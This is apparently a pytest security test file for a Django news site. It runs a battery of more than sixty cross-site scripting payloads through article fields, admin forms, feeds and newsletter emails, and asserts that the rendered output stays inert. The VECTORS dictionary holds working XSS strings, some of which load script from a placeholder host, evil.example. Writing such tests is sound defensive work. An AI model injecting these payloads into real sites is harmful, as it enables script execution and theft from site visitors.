"""An XSS battery: each vector goes in through every field a reader sees (the body, the dek, the
donation message, the top image's and an in-body image's caption and credit, a newsletter intro
and blurb), by the model and by the admin's forms, and every public page that shows the field
is parsed to prove nothing in it can run."""

import re
import xml.etree.ElementTree as ET

import pytest
from bs4 import BeautifulSoup
from django.urls import reverse

from articles.models import Article, DonationAppeal
from newsletter import export
from newsletter.models import Issue
from tests.factories import (
    ArticleFactory,
    DonationAppealFactory,
    ImageFactory,
    IssueFactory,
    IssueItemFactory,
    SectionFactory,
)
from tests.forms import form_data
from tests.security.xss import findings

pytestmark = pytest.mark.django_db

VECTORS = {
    "script tag": "<script>alert(1)</script>",
    "script, upper case": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script split by a null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror, no quotes or spaces": "<img/src=x/onerror=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "svg animate href": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        '<text y="20">x</text></a></svg>'
    ),
    "body onload": "<body onload=alert(1)>",
    "p onclick": '<p onclick="alert(1)">click</p>',
    "a onmouseover": '<a href="https://example.org/" onmouseover="alert(1)">hover</a>',
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "javascript href": '<a href="javascript:alert(1)">x</a>',
    "javascript, mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript, hex entity": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "javascript, decimal entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "javascript, entity without semicolon": '<a href="&#106avascript:alert(1)">x</a>',
    "javascript, tab inside": '<a href="java\tscript:alert(1)">x</a>',
    "javascript, encoded tab inside": '<a href="java&#x09;script:alert(1)">x</a>',
    "javascript, newline inside": '<a href="java\nscript:alert(1)">x</a>',
    "javascript, leading space and control": '<a href=" \x01javascript:alert(1)">x</a>',
    "javascript, colon entity": '<a href="javascript&colon;alert(1)">x</a>',
    "vbscript href": '<a href="vbscript:msgbox(1)">x</a>',
    "data URL link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data URL image": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "style element": "<style>body{background:url(javascript:alert(1))}</style>",
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe javascript src": '<iframe src="javascript:alert(1)"></iframe>',
    "object data": '<object data="javascript:alert(1)"></object>',
    "embed src": '<embed src="data:text/html,<script>alert(1)</script>">',
    "form action": '<form action="javascript:alert(1)"><button>Go</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">Go</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="javascript:alert(1)//">',
    "link import": '<link rel="import" href="https://evil.example/x.html">',
    "attribute breakout, double quote": (
        '<a href="https://example.org/" title="x" onclick="alert(1)">x</a>'
    ),
    "attribute breakout through the value": '<a title=""><img src=x onerror=alert(1)>">x</a>',
    "attribute breakout, single quote": "<a title='x' onfocus='alert(1)' autofocus>x</a>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "svg style mutation": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "math mglyph mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math style mutation": (
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
        '<a title="</style><img src onerror=alert(1)>">'
    ),
    "comment mutation": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "comment abrupt close": "<!--><img src=x onerror=alert(1)>-->",
    "bang comment close": "<!-- --!><img src=x onerror=alert(1)> -->",
    "template content": "<template><img src=x onerror=alert(1)></template>",
    "textarea breakout": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "title breakout": "<title></title><img src=x onerror=alert(1)>",
    "xmp breakout": "<xmp></xmp><img src=x onerror=alert(1)></xmp>",
    "unclosed tag": "<img src=x onerror=alert(1)",
    "unclosed attribute": '<a href="javascript:alert(1)',
    "CDATA": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "svg CDATA": "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "xlink href": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "figure placeholder with handler": '<figure data-image="1" onclick="alert(1)"></figure>',
    "figure placeholder breakout": '<figure data-image="1&quot; onclick=&quot;alert(1)"></figure>',
    "closing the JSON-LD": "</script><script>alert(1)</script>",
    "html comment in JSON-LD": "<!--<script>alert(1)//",
    "unicode escapes": "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "select breakout": (
        "<select><template><style><img src=x onerror=alert(1)></style></template></select>"
    ),
    "noembed breakout": '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "processing instruction": (
        "<?xml-stylesheet href=javascript:alert(1)?><img src=x onerror=alert(1)>"
    ),
}

# What XML 1.0 cannot carry, and Django's feed writer refuses.
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
# The site's own forms: search and the newsletter signup.
SITE_FORMS = frozenset({"/search/", "/newsletter/signup/"})


def assert_page_is_safe(response, **options):
    assert response.status_code == 200
    markup = response.content.decode(response.charset or "utf-8")
    assert findings(markup, allowed_forms=SITE_FORMS, **options) == []


# Feed elements a reader may show as HTML. (Media RSS captions and credits are plain text.)
ATOM = "{http://www.w3.org/2005/Atom}"
READ_AS_HTML = {"title", "description", f"{ATOM}title", f"{ATOM}summary", f"{ATOM}content"}


def assert_feed_is_safe(response):
    """The feed is well-formed XML, and what readers show as HTML in it runs nothing."""
    assert response.status_code == 200
    root = ET.fromstring(response.content)
    for element in root.iter():
        assert element.tag.rpartition("}")[2] not in {"script", "style", "iframe"}, element.tag
        if element.tag in READ_AS_HTML and element.text:
            assert findings(element.text) == [], (element.tag, element.text)


def plain(vector):
    """`vector` as a plain-text field can hold it: PostgreSQL stores no NUL in text, and the
    admin's forms refuse it, so NUL reaches only rich text (where nh3 drops it)."""
    return vector.replace("\x00", "")


def shown_everywhere(vector):
    """An article carrying `vector` in each field a reader sees, with a running appeal."""
    text = plain(vector)
    top = ImageFactory(caption=text[:500], credit=text[:300])
    inside = ImageFactory(caption=text[:500], credit=text[:300])
    article = ArticleFactory(
        body=f'<p>{vector}</p><figure data-image="{inside.pk}"></figure>{vector}',
        dek=text[:300],
        top_image=top,
    )
    DonationAppealFactory(message=vector)
    return article


def public_pages(client, article):
    section = article.section.slug
    return {
        "article": client.get(article.get_absolute_url()),
        "home": client.get(reverse("articles:home")),
        "section": client.get(reverse("articles:section", kwargs={"slug": section})),
    }


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
def test_through_the_model_nothing_reaches_a_page(client, vector):
    article = shown_everywhere(vector)
    for response in public_pages(client, article).values():
        assert_page_is_safe(response)


# A control character in a dek or caption (possible from the shell or an import; the admin's
# forms refuse only NUL) is taken out of the feed, which XML could not otherwise carry.
FEED_VECTORS = [pytest.param(vector, id=name) for name, vector in VECTORS.items()]


@pytest.mark.parametrize("vector", FEED_VECTORS)
def test_through_the_model_nothing_reaches_a_feed(client, vector):
    shown_everywhere(vector)
    assert_feed_is_safe(client.get(reverse("feeds:site-rss")))
    assert_feed_is_safe(client.get(reverse("feeds:site-atom")))


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
def test_through_the_admin_nothing_reaches_a_page(admin_client, client, vector):
    vector = plain(vector)
    add = reverse("admin:articles_article_add")
    data = form_data(admin_client.get(add), "article_form")
    data.update(
        headline="Through the admin",
        slug="through-the-admin",
        section=SectionFactory().pk,
        status=Article.Status.PUBLISHED,
        body=vector,
        dek=vector,
    )
    assert admin_client.post(add, data).status_code == 302
    appeal_add = reverse("admin:articles_donationappeal_add")
    data = form_data(admin_client.get(appeal_add), "donationappeal_form")
    data.update(title="Appeal", url="/donate/", message=f"<p>Give.</p>{vector}")
    assert admin_client.post(appeal_add, data).status_code == 302

    article = Article.objects.get(slug="through-the-admin")
    assert findings(article.body) == []
    assert findings(DonationAppeal.objects.get().message) == []
    for response in public_pages(client, article).values():
        assert_page_is_safe(response)


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
def test_through_a_newsletter_issue_nothing_reaches_a_reader(client, settings, vector):
    settings.SITE_URL = "https://review.example.org"
    article = shown_everywhere(vector)
    issue = IssueFactory(intro=vector, status=Issue.Status.READY)
    IssueItemFactory(issue=issue, article=article, blurb=plain(vector), position=0)
    IssueItemFactory(issue=issue, article=ArticleFactory(dek=plain(vector)[:300]), position=1)
    page = client.get(
        reverse("newsletter:issue", kwargs={"slug": issue.newsletter.slug, "number": issue.number})
    )
    assert_page_is_safe(page)
    email = export.render_html(issue)
    assert findings(email, email=True) == []
    # Its styles: inline, and the template's one <style> of @media rules, nothing of the vector's.
    assert len(BeautifulSoup(email, "html5lib").find_all("style")) == 1


def test_the_battery_has_at_least_forty_vectors():
    assert len(VECTORS) >= 40
